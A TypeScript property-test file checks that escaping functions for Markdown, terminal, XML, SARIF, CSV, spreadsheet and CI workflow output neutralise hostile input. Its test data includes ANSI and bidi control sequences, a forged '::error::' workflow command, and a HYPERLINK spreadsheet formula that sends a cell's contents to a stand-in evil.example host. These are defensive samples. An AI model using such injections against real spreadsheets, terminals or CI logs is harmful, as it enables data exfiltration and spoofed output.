import { stripVTControlCharacters } from 'node:util';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { csvCell, escapedView, htmlText, markdownCode, markdownText, sarifText, spreadsheetCell, terminalText, workbookCell, workflowData, workflowProperty, xmlText } from '../../src/format/escape.js';
import { SEED } from '../support/context.js';

/** A GitHub-like renderer: raw HTML allowed, bare links recognised with a scheme or www. as GFM does. */
const md = new MarkdownIt({ html: true, linkify: true });
md.linkify.set({ fuzzyLink: false });

/** Strings made of what breaks formats: markup, controls, line breaks, invalid XML, surrogates. */
const HOSTILE = [
  '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '\u2028', '＝', '#', '>', '1.', '2)', '    ', '*', '_', '`', '``', '~', '$', '&', '&amp;', '|',
  '[', ']', '(', ')', '!', '<', '</details>', '<img src=x>', 'http://evil.example/', 'www.evil.example', 'a@b.co', '\\', ':', '::error::', '%0A',
  '\u001b[2J', '\u001b]0;title\u0007', '\u001b]8;;http://evil\u0007', '\u009b31m', '\u0000', '\u007f', '\ufffe', '\uffff', '\ud800', '\u202e', 'x', '甲',
];
const hostile = fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 12 }).map((parts) => parts.join(''));
const CONTROL = /[\u0000-\u001F\u007F-\u009F]/;
const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/g;

describe('escaping for Markdown', () => {
  it('renders text as exactly its characters on one line: no markup, link, image or HTML', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = text.replace(/\r\n|[\t\n\v\f\r\u0085\u2028\u2029]/g, ' ').replace(/[\u0000-\u001F\u007F-\u009F]/g, '').replace(BIDI, '');
        const html = md.renderInline(markdownText(text));
        expect(html.trim()).toBe(md.utils.escapeHtml(shown).replace(/^ {4,}/, ' ').trim());
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });

  it('renders code as one code span holding the text, however many backticks it has', () => {
    fc.assert(
      fc.property(hostile.filter((t) => /[^\s\u0000-\u001F\u007F-\u009F]/.test(t.replace(BIDI, ''))), (text) => {
        const shown = text.replace(/\r\n|[\t\n\v\f\r\u0085\u2028\u2029]/g, ' ').replace(/[\u0000-\u001F\u007F-\u009F]/g, '').replace(BIDI, '');
        expect(md.renderInline(markdownCode(text))).toBe(`<code>${md.utils.escapeHtml(shown)}</code>`);
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });

  it('keeps a table row one row of the same cells', () => {
    fc.assert(
      fc.property(hostile, hostile, (a, b) => {
        const html = md.render(`| a | b |\n| --- | --- |\n| ${markdownText(a)} | ${markdownCode(b || 'x', 'table')} |\n`);
        expect(html.match(/<tr>/g)).toHaveLength(2);
        expect(html.match(/<td>/g)).toHaveLength(2);
        expect(html).not.toMatch(/<(?!\/?(table|thead|tbody|tr|th|td|code)\b)[a-z]/);
      }),
      { seed: SEED, numRuns: 1000 },
    );
  });
});

describe('escaping for other targets', () => {
  it('leaves no escape sequence, control character or line break for the terminal', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(terminalText(text)).not.toMatch(CONTROL);
        expect(terminalText(text)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
      }),
      { seed: SEED, numRuns: 2000 },
    );
    expect(terminalText('a\u001b[31mred\u001b[0m\u001b]0;title\u0007b')).toBe('aredb');
    expect(terminalText('a\u2028b\u200Fc')).toBe('a bc');
  });

  it('leaves no bidirectional mark or control in XML (JUnit) or SARIF text', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const escaped of [xmlText(text), sarifText(text)]) {
          expect(escaped).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
        }
      }),
      { seed: SEED, numRuns: 2000 },
    );
    expect(xmlText('济南\u202eevil\u202c市 <a>')).toBe('济南evil市 &lt;a&gt;');
    expect(sarifText('历下\u2066区\u2069 [x](y)')).toBe('历下区 \\[x\\](y)');
  });

  it('changes no terminal text that has nothing to remove, and removes all of it at once (applying it twice changes nothing)', () => {
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ unit: 'grapheme' })), (text) => {
        const once = terminalText(text);
        expect(terminalText(once)).toBe(once);
        if (!/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/.test(text)) expect(once).toBe(text);
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });

  it('leaves no escape sequence, control or bidirectional mark in a CSV cell, and is the spreadsheet cell otherwise', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const cell = String(csvCell(text));
        expect(cell).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
        if (!/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/.test(text)) expect(cell).toBe(spreadsheetCell(text));
      }),
      { seed: SEED, numRuns: 2000 },
    );
    expect(csvCell('\u001b[2Jcleared')).toBe('[2Jcleared');
    // a formula hidden behind a control is still made inert once the control is gone
    expect(csvCell('\u001b=1+1')).toBe("'=1+1");
    expect(csvCell('line 1\nline 2\tend')).toBe('line 1\nline 2\tend');
    expect(csvCell(12.5)).toBe(12.5);
  });

  it('makes no spreadsheet cell start a formula, and changes no other cell', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const cell = spreadsheetCell(text);
        expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]|^\s*[=+\-@]/);
        if (!/^[\s\u0000-\u001F]*[=+\-@＝＋－＠]|^[\t\r\n]/.test(text)) expect(cell).toBe(text);
        expect(workbookCell(text)).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/);
      }),
      { seed: SEED, numRuns: 2000 },
    );
    expect(spreadsheetCell('=HYPERLINK("http://evil.example/?d="&A1,"click")')).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"click")`);
    expect(spreadsheetCell(-5)).toBe(-5);
  });

  it('writes only characters XML can hold, with markup escaped', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const xml = xmlText(text);
        expect(xml).not.toMatch(/[<>"']|[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
        expect(xml.replace(/&(amp|lt|gt|quot|apos);/g, '')).not.toMatch(/&/);
        expect(htmlText(text)).not.toMatch(/[<>"']/);
      }),
      { seed: SEED, numRuns: 2000 },
    );
  });

  it('keeps a workflow command on its line and its properties apart', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(workflowData(text)).not.toMatch(/[\r\n\u001b]/);
        expect(workflowProperty(text)).not.toMatch(/[\r\n,:]/);
        const decoded = workflowProperty(text).replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%3A/g, ':').replace(/%2C/g, ',').replace(/%25/g, '%');
        expect(decoded).toBe(stripVTControlCharacters(text).replace(/[\u0000-\u0009\u000B\u000C\u000E-\u001F\u007F-\u009F]/g, '').replace(BIDI, ''));
      }),
      { seed: SEED, numRuns: 1000 },
    );
    expect(workflowData('50%\n::error::forged')).toBe('50%25%0A::error::forged');
  });

  it('escapes the brackets of SARIF embedded links', () => {
    expect(sarifText('[click](http://evil.example)')).toBe('\\[click\\](http://evil.example)');
  });

  it('gives a view of a record whose every string is escaped, getters included', () => {
    class Lazy {
      readonly plain = 'a\nb';
      get computed(): string {
        return '\u001b[2Jc';
      }
    }
    const view = escapedView({ list: [new Lazy()], count: 3, nested: { deep: ['\u0007x'] } }, terminalText);
    expect(view.list[0]!.plain).toBe('a b');
    expect(view.list[0]!.computed).toBe('c');
    expect(view.list.map((l) => l.plain)).toEqual(['a b']);
    expect(view.nested.deep[0]).toBe('x');
    expect(view.count).toBe(3);
  });
});
